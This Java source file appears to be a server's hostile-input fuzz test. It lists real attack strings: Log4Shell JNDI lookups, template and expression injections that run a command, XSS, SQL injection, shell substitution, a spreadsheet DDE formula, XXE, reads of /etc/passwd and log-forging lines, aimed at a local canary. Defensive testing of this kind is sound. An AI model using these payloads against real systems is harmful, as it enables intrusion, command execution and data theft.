package dev.attune.torture.hostile;

import java.util.List;
import java.util.Random;

/// Values that have broken other servers.
final class Oddities {
    /// What template and expression languages, databases, shells and pages would run.
    static final List<String> EXPRESSIONS = List.of(
            "${jndi:ldap://127.0.0.1:CANARY/a}",
            "${${lower:j}ndi:${lower:l}dap://127.0.0.1:CANARY/a}",
            "#{T(java.net.URI).create('http://127.0.0.1:CANARY').toURL().openStream()}",
            "${new java.net.Socket('127.0.0.1', CANARY)}",
            "%{(#a=@java.net.InetAddress@getLocalHost())}",
            "{{ 7 | times: 7 }}{% include 'http://127.0.0.1:CANARY' %}",
            "{{constructor.constructor('return process')()}}",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"touch CANARYFILE\")}",
            "#set($x=$x.class.forName('java.lang.Runtime'))$x.getRuntime().exec('touch CANARYFILE')",
            "script::new java.net.Socket('127.0.0.1', CANARY)",
            "[[${T(java.lang.Runtime).getRuntime().exec('touch CANARYFILE')}]]",
            "profile.traits.all(t, true)",
            "<script>fetch('http://127.0.0.1:CANARY')</script>",
            "\"><img src=x onerror=alert(1)>",
            "';DROP TABLE signals;--",
            "' OR '1'='1",
            "1; ATTACH DATABASE 'CANARYFILE' AS x",
            "$(touch CANARYFILE)`touch CANARYFILE`",
            "=cmd|' /C touch CANARYFILE'!A0",
            "<!DOCTYPE a [<!ENTITY x SYSTEM 'http://127.0.0.1:CANARY'>]><a>&x;</a>",
            "../../../../etc/passwd",
            "file:///etc/passwd");

    /// A line that a log could take for its own.
    static final String FORGED = "03:03:03.003 ERROR Server this line was forged";

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\r\n" + FORGED,
            "\n" + FORGED + "\n",
            "\r" + FORGED,
            "\u2028" + FORGED,
            "\u0085" + FORGED,
            "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
            "\u202egnp.exe\u202c\u2066x\u2069",
            "\u200b\ufeff",
            "\ud800",
            "\udc00\ud800",
            "\ud83d\ude00".repeat(50),
            "e\u0301".repeat(300),
            "\u0130\u0131\u1e9e\ufb03",
            "\uffff\ufffe",
            "null",
            "undefined",
            "NaN",
            "true",
            "[object Object]",
            "-1",
            "0x10",
            "1e999999999",
            "9".repeat(400),
            "9223372036854775808",
            "2026-13-45T99:99:99Z",
            "0000-00-00T00:00:00Z",
            "-999999999-01-01T00:00:00Z",
            "+999999999-12-31T23:59:59.999999999+18:00",
            "9999-12-31T23:59:59.999999999Z",
            "1970-01-01",
            "user_id:",
            ":x",
            "user_id",
            "user_id:a:b:c",
            "constructor",
            "__proto__",
            "a".repeat(256),
            "a".repeat(5_000),
            "%00%0d%0a",
            "%s%n%x{}",
            "(a+)+$",
            "a".repeat(60) + "!",
            "Europe/Nowhere",
            "xx-YY-zzzzzzzzzzzz",
            "de_DE@euro;q=0.9,*;q=0");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1.0",
            "0.1e1",
            "2147483648",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1e308",
            "1e309",
            "-1e999999999",
            "1e999999999",
            "1e-999999999",
            "1E+2147483648",
            "0.0000000000000000000000000000001",
            "9".repeat(900),
            "0." + "1".repeat(900),
            "1" + "0".repeat(3_000) + "e-3000");

    /// Not JSON, though some parsers take it.
    private static final List<String> NO_VALUES = List.of(
            "NaN",
            "Infinity",
            "-Infinity",
            "undefined",
            "'single'",
            "01",
            "+1",
            ".5",
            "1.",
            "0x1F",
            "tru",
            "/*x*/1",
            "\"\\x41\"",
            "\"\\u12\"",
            "\"a\tb\"",
            "\"unended",
            "{",
            "]",
            ",",
            "{\"a\":}",
            "[1,]",
            "{\"a\":1,}",
            "1 2");

    private Oddities() {}

    static String text(Random random) {
        return switch (random.nextInt(40)) {
            case 0 -> "x".repeat(1 << (10 + random.nextInt(7)));
            case 1 -> random.nextInt(10) > 0 ? "y" : "y".repeat(1_000_000);
            case 2, 3, 4, 5, 6, 7, 8, 9 -> pick(random, EXPRESSIONS);
            case 10, 11 -> characters(random);
            default -> pick(random, TEXTS);
        };
    }

    private static String characters(Random random) {
        var text = new StringBuilder();
        for (int i = random.nextInt(30); i >= 0; i--) {
            text.append((char) random.nextInt(random.nextBoolean() ? 128 : 65_536));
        }
        return text.toString();
    }

    static String number(Random random) {
        return pick(random, NUMBERS);
    }

    static String noValue(Random random) {
        return pick(random, NO_VALUES);
    }

    static <T> T pick(Random random, List<T> all) {
        return all.get(random.nextInt(all.size()));
    }
}
